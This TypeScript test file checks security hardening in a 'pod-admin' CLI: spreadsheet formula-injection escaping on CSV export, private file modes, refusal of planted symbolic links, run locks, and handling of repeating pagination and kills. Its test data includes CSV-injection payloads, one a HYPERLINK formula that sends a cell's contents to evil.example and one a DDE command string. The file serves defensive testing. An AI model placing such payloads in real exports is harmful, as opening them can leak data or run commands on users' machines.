/**
 * Issue 21, through the real pod-admin process: an export is safe to open in a spreadsheet and still round-trips;
 * output files are 0600, created exclusively, never through a planted symbolic link; a report is locked while a
 * run writes it; `--report` never replaces a file that is not a report; `export --all` stops on a user list that
 * repeats; a `kill -9` re-sends at most the calls in flight.
 */
import { execFileSync } from "node:child_process";
import { lstat, readdir, readFile, readlink, stat, symlink, writeFile } from "node:fs/promises";
import { createServer, request as httpRequest, type Server } from "node:http";
import { hostname } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { killRun } from "../scripts/lib/kill-run.js";
import { DEFAULT_AVAILABLE_FEATURES, type SimulatedPod } from "../src/simulator/index.js";
import { startPodAdmin, useCliWorkspace } from "./cli-process.js";

const workspace = useCliWorkspace("pod-admin-hardening-");
const token = (pod: SimulatedPod) => ({ env: { POD_SESSION_TOKEN: pod.currentToken() } });
const modeOf = async (path: string) => (await stat(path)).mode & 0o777;

describe("export: formula injection", () => {
  // Values from a hostile pod that a spreadsheet would run as formulas (OWASP's CSV-injection examples).
  const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"];

  it("features export: formula-led feature names start with ', and apply --only-changes reads them back exactly", async () => {
    const pod = await workspace.simulate({
      users: [11, 12],
      availableFeatures: [...DEFAULT_AVAILABLE_FEATURES, ...FORMULAS, "'quoted", "＝fullWidth"],
    });
    pod.state.setFeatures(11, { [FORMULAS[0] as string]: true, [FORMULAS[1] as string]: false, "'quoted": true });
    pod.state.setFeatures(12, { [FORMULAS[2] as string]: true, [FORMULAS[3] as string]: false, "＝fullWidth": true });
    const out = join(workspace.work, "formulas.csv");
    const exported = await startPodAdmin(["features", "export", "--all", "--pod", pod.url, "--out", out], token(pod))
      .done;
    expect(exported.stderr).toBe(`Exported 2 users (6 rows) to ${out}.\n`);
    expect(exported.code).toBe(0);
    expect(await readFile(out, "utf8")).toBe(
      "uid,entitlement,enabled\n" +
        "11,''quoted,true\n" +
        "11,'+cmd|' /C calc'!A0,false\n" +
        `11,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",true\n` +
        "12,'-2+3,false\n" +
        "12,'@SUM(1+1),true\n" +
        "12,'＝fullWidth,true\n",
    );
    const applied = await startPodAdmin(
      ["features", "apply", out, "--pod", pod.url, "--only-changes", "--report", `${out}.report`, "--quiet"],
      token(pod),
    ).done;
    expect(applied.stderr).toBe("");
    expect(applied.code).toBe(0);
    expect(applied.stdout).toContain(", 0 differ, 2 already hold it\n");
    expect(pod.stats().writes).toBe(0);
  });

  it("apps export: formula-led appId, appName, product name and SKU, and tab- or CR-led cells, round-trip", async () => {
    const pod = await workspace.simulate({ users: [21] });
    pod.state.setApps(21, [
      {
        appId: "+cmd|' /C calc'!A0",
        appName: "@SUM(1+1)",
        listed: true,
        install: false,
        products: [{ name: "=1+2", type: "premium", subscribed: true, sku: "\tTAB-LED" }],
      },
      { appId: "plain", appName: "\rCR-LED", listed: false, install: true },
    ]);
    const out = join(workspace.work, "apps-formulas.csv");
    const exported = await startPodAdmin(["apps", "export", "--all", "--pod", pod.url, "--out", out], token(pod)).done;
    expect(exported.code).toBe(0);
    const lines = (await readFile(out, "utf8")).split("\n");
    expect(lines.slice(1)).toEqual([
      "21,'+cmd|' /C calc'!A0,true,false,'@SUM(1+1),'=1+2,premium,'\tTAB-LED,true,",
      '21,plain,false,true,"\'\rCR-LED",,,,,',
      "",
    ]);
    // No cell of the file starts with a formula character (the escape is on every value from the pod).
    for (const line of lines.slice(1, 2)) for (const cell of line.split(",")) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const applied = await startPodAdmin(
      ["apps", "replace", out, "--pod", pod.url, "--only-changes", "--report", `${out}.report`, "--quiet"],
      token(pod),
    ).done;
    expect(applied.stderr).toBe("");
    expect(applied.code).toBe(0);
    expect(applied.stdout).toContain(", 0 differ, 1 already hold it\n");
    expect(pod.stats().writes).toBe(0);
  });
});

describe("output files", () => {
  const uidsCsv = async (name: string, uids: number[]) => {
    const path = join(workspace.work, name);
    await writeFile(
      path,
      `uid,entitlement,enabled\n${uids.map((uid) => `${uid},canCreatePublicRoom,true`).join("\n")}\n`,
    );
    return path;
  };

  it("the report, the undo journal and an export are created 0600", async () => {
    const pod = await workspace.simulate({ users: [31, 32] });
    pod.state.setFeatures(32, { canCreatePublicRoom: false });
    const input = await uidsCsv("modes.csv", [31, 32]);
    const report = join(workspace.work, "modes.report.jsonl");
    const undo = join(workspace.work, "modes.undo.jsonl");
    const run = await startPodAdmin(
      ["features", "apply", input, "--pod", pod.url, "--report", report, "--journal", undo, "--quiet"],
      token(pod),
    ).done;
    expect(run.stderr).toBe("");
    expect(run.code).toBe(0);
    expect(await modeOf(report)).toBe(0o600);
    expect(await modeOf(undo)).toBe(0o600);
    const out = join(workspace.work, "modes.export.csv");
    const exported = await startPodAdmin(["features", "export", "--all", "--pod", pod.url, "--out", out], token(pod))
      .done;
    expect(exported.code).toBe(0);
    expect(await modeOf(out)).toBe(0o600);
    expect((await readdir(workspace.work)).filter((f) => f.startsWith("modes.") && f.endsWith(".lock"))).toEqual([]);
  });

  it("--report naming an existing file that is not a report is refused (exit 2), the file untouched, nothing sent", async () => {
    const pod = await workspace.simulate({ users: [41] });
    const input = await uidsCsv("precious-input.csv", [41]);
    const precious = join(workspace.work, "precious.csv");
    await writeFile(precious, "name,salary\nAda,100\n");
    const run = await startPodAdmin(["features", "apply", input, "--pod", pod.url, "--report", precious], token(pod))
      .done;
    expect(run.stderr).toBe(
      `pod-admin: --report ${precious} exists and is not a pod-admin report: the report would replace it; name a ` +
        "new file (or remove it first)\nNothing was sent.\n",
    );
    expect(run.code).toBe(2);
    expect(await readFile(precious, "utf8")).toBe("name,salary\nAda,100\n");
    expect(pod.stats().requests).toBe(0);
    // A report of an earlier run may be replaced (an empty one too).
    const earlier = join(workspace.work, "earlier.jsonl");
    await writeFile(earlier, "");
    const again = await startPodAdmin(
      ["features", "apply", input, "--pod", pod.url, "--report", earlier, "--quiet"],
      token(pod),
    ).done;
    expect(again.code).toBe(0);
  });

  it("a symbolic link planted at REPORT.partial, OUT.partial or the journal is refused (exit 2), its target untouched", async () => {
    const pod = await workspace.simulate({ users: [51] });
    const input = await uidsCsv("link-input.csv", [51]);
    const target = join(workspace.work, "victim.txt");
    await writeFile(target, "keep me\n");
    const report = join(workspace.work, "link.report.jsonl");
    await symlink(target, `${report}.partial`);
    const run = await startPodAdmin(["features", "apply", input, "--pod", pod.url, "--report", report], token(pod))
      .done;
    expect(run.stderr).toBe(
      `pod-admin: ${report}.partial is a symbolic link (to "${target}"): pod-admin never writes through a link (in a ` +
        "shared folder one can point at any of your files); remove it and run again\nNothing was sent.\n",
    );
    expect(run.code).toBe(2);
    expect(pod.stats().requests).toBe(0);
    expect(await readlink(`${report}.partial`)).toBe(target);
    expect(await readdir(workspace.work)).not.toContain("link.report.jsonl.lock");

    const out = join(workspace.work, "link.export.csv");
    await symlink(target, `${out}.partial`);
    const exported = await startPodAdmin(["features", "export", "--all", "--pod", pod.url, "--out", out], token(pod))
      .done;
    expect(exported.stderr).toContain(`pod-admin: ${out}.partial is a symbolic link (to "${target}")`);
    expect(exported.code).toBe(2);

    const undo = join(workspace.work, "link.undo.jsonl");
    await symlink(join(workspace.work, "not-there.txt"), undo); // dangling: following it would create the file
    const journaled = await startPodAdmin(
      ["features", "apply", input, "--pod", pod.url, "--report", join(workspace.work, "r2.jsonl"), "--journal", undo],
      token(pod),
    ).done;
    expect(journaled.stderr).toContain(`pod-admin: --journal ${undo} is a symbolic link`);
    expect(journaled.code).toBe(2);
    expect(await readdir(workspace.work)).not.toContain("not-there.txt");
    expect(await readFile(target, "utf8")).toBe("keep me\n");
    expect(pod.stats().writes).toBe(0);
    expect((await lstat(undo)).isSymbolicLink()).toBe(true);
  });

  it("a second run on a --report another run is writing is refused, naming that run; nothing sent; the first run's report whole", {
    timeout: 60_000,
  }, async () => {
    // The first run lasts ~7 s (300 calls of 40-50 ms, 2 at a time): the second one starts well within it.
    const firstUids = Array.from({ length: 300 }, (_, i) => 1000 + i);
    const secondUids = Array.from({ length: 200 }, (_, i) => 5000 + i);
    const pod = await workspace.simulate({
      users: [...firstUids, ...secondUids],
      faults: { latencyMs: [40, 50], seed: 3 },
    });
    const first = await uidsCsv("lock-a.csv", firstUids);
    const second = await uidsCsv("lock-b.csv", secondUids);
    const report = join(workspace.work, "shared.report.jsonl");
    const a = startPodAdmin(
      ["features", "apply", first, "--pod", pod.url, "--report", report, "--concurrency", "2", "--quiet"],
      token(pod),
    );
    await waitFor(() => pod.stats().writes > 0 || a.child.exitCode !== null);
    expect(a.child.exitCode).toBe(null);
    const b = await startPodAdmin(["features", "apply", second, "--pod", pod.url, "--report", report], token(pod)).done;
    expect(b.stderr).toMatch(
      new RegExp(
        `^pod-admin: --report ${reEscape(report)} is being written by another pod-admin run \\(features apply ` +
          `${reEscape(first)}; pid ${a.child.pid} on ${reEscape(hostname())}, started \\d{4}-\\d\\d-\\d\\dT[\\d:.]+Z\\)\\. ` +
          `Two runs writing one file would lose lines: wait for that run to end, or name another file; if no such ` +
          `run is alive, remove ${reEscape(report)}\\.lock\\nNothing was sent\\.\\n$`,
      ),
    );
    expect(b.code).toBe(2);
    // Applying the report that run is still writing would send its calls in flight again: refused too.
    const c = await startPodAdmin(
      ["features", "apply", report, "--pod", pod.url, "--report", join(workspace.work, "c.jsonl")],
      token(pod),
    ).done;
    expect(c.stderr).toMatch(
      new RegExp(
        `^pod-admin: the input ${reEscape(report)} is being written by another pod-admin run \\(features apply ` +
          `${reEscape(first)}; pid ${a.child.pid} on .*\\): reading it now would send again the calls that run has ` +
          `in flight\\. Wait for it to end; if no such run is alive, remove ${reEscape(report)}\\.lock\\n` +
          "Nothing was sent\\.\\n$",
      ),
    );
    expect(c.code).toBe(2);
    expect(a.child.exitCode).toBe(null); // both refusals came while the first run was writing
    const done = await a.done;
    expect(done.code).toBe(0);
    expect(done.stdout).toContain("300 succeeded, 0 failed, 0 not attempted");
    for (let i = 0; i < 200; i++) expect(pod.state.features(5000 + i).canCreatePublicRoom).toBeUndefined();
    expect(pod.stats().writes).toBe(300);
    expect(await readFile(report, "utf8")).toBe(""); // everything applied: the report of a named run is kept, empty
    expect(await readdir(workspace.work)).not.toContain("shared.report.jsonl.lock");
  });

  it("a lock left by a run that was killed (its process gone) is taken over", async () => {
    const pod = await workspace.simulate({ users: [61] });
    const input = await uidsCsv("stale.csv", [61]);
    const report = join(workspace.work, "stale.report.jsonl");
    const dead = Number(execFileSync(process.execPath, ["-p", "process.pid"], { encoding: "utf8" }).trim());
    const lock = { pid: dead, host: hostname(), started: "2026-01-01T00:00:00.000Z", run: "features apply x.csv" };
    await writeFile(`${report}.lock`, JSON.stringify(lock));
    await writeFile(`${report}.partial`, "left by the killed run\n");
    const run = await startPodAdmin(["features", "apply", input, "--pod", pod.url, "--report", report, "--quiet"], {
      ...token(pod),
    }).done;
    expect(run.stderr).toBe("");
    expect(run.code).toBe(0);
    expect(pod.stats().writes).toBe(1);
    expect(await readdir(workspace.work)).not.toContain("stale.report.jsonl.lock");
  });
});

describe("export --all against a user list that repeats", () => {
  /** A proxy in front of the simulator that rewrites `skip` of the user list (`fix` returns the skip it sends). */
  async function pagingProxy(pod: SimulatedPod, fix: (skip: number) => number): Promise<Server & { url: string }> {
    const server = createServer((req, res) => {
      const url = new URL(req.url ?? "/", "http://proxy");
      if (url.pathname.endsWith("/v2/admin/user/list")) {
        url.searchParams.set("skip", String(fix(Number(url.searchParams.get("skip") ?? 0))));
      }
      const upstream = httpRequest(
        `${pod.origin}${url.pathname}${url.search}`,
        { method: req.method, headers: req.headers },
        (answer) => {
          res.writeHead(answer.statusCode ?? 502, answer.headers);
          answer.pipe(res);
        },
      );
      req.pipe(upstream);
    });
    await new Promise<void>((done) => server.listen(0, "127.0.0.1", () => done()));
    const { port } = server.address() as { port: number };
    return Object.assign(server, { url: `http://127.0.0.1:${port}/pod` });
  }
  const USERS = Array.from({ length: 2500 }, (_, i) => 100_000 + i);

  it("a pod that ignores skip: the export stops at page 2, naming the repeated page, exit 1", async () => {
    const pod = await workspace.simulate({ users: USERS });
    const proxy = await pagingProxy(pod, () => 0);
    try {
      const out = join(workspace.work, "repeat.csv");
      const started = startPodAdmin(["features", "export", "--all", "--pod", proxy.url, "--out", out], {
        env: { POD_SESSION_TOKEN: pod.currentToken() },
      });
      // An export that never ends (as it did) is stopped, and fails the test.
      const never = setTimeout(() => started.child.kill("SIGKILL"), 20_000);
      const run = await started.done.finally(() => clearTimeout(never));
      expect(run.code).toBe(1);
      expect(run.stderr).toBe(
        `What was exported is in ${out}.partial.\n` +
          "The export stopped: the pod answered page 2 of its user list (skip=1000) with the users of page 1: it " +
          "repeats pages (does it ignore skip?), so the list would never end; 1000 users were read.\n" +
          `Exported 1000 users (0 rows) to ${out}.\n`,
      );
      expect(pod.stats().byOperation["GET /v2/admin/user/list"]).toBe(2);
    } finally {
      await new Promise((done) => proxy.close(done));
    }
  });

  it("a pod whose pages overlap: the export stops at the first repeated user, naming it, exit 1", async () => {
    const pod = await workspace.simulate({ users: USERS });
    const proxy = await pagingProxy(pod, (skip) => (skip === 0 ? 0 : skip - 1));
    try {
      const run = await startPodAdmin(["features", "export", "--all", "--pod", proxy.url, "--quiet"], {
        env: { POD_SESSION_TOKEN: pod.currentToken() },
      }).done;
      expect(run.code).toBe(1);
      expect(run.stderr).toBe(
        "The export stopped: the pod listed user 100999 twice (again on page 2, skip=1000): its user list changed " +
          "while it was read, or it pages wrongly; 1000 users were read, run the export again.\n" +
          "Exported 1000 users (0 rows).\n",
      );
    } finally {
      await new Promise((done) => proxy.close(done));
    }
  });
});

describe("kill -9", () => {
  it("SIGKILL at random moments of a 3,000-user run at concurrency 20, resumed from its report: at most 20 writes sent twice per kill", {
    timeout: 180_000,
  }, async () => {
    // Outcomes used to wait up to 100 ms in memory: a kill then re-sent hundreds of writes the pod had applied.
    const result = await killRun({ users: 3000, concurrency: 20, kills: 2, seed: 2, work: workspace.work });
    expect(result.wrong).toEqual([]);
    expect(result.kills).toHaveLength(2);
    for (const kill of result.kills) {
      expect(kill.writesAtKill).toBeGreaterThan(0);
      expect(kill.sentTwice).toBeLessThanOrEqual(20);
    }
  });
});

const reEscape = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");

async function waitFor(condition: () => boolean, timeoutMs = 30_000) {
  const deadline = Date.now() + timeoutMs;
  while (!condition()) {
    if (Date.now() > deadline) throw new Error("condition not met in time");
    await new Promise((r) => setTimeout(r, 5));
  }
}
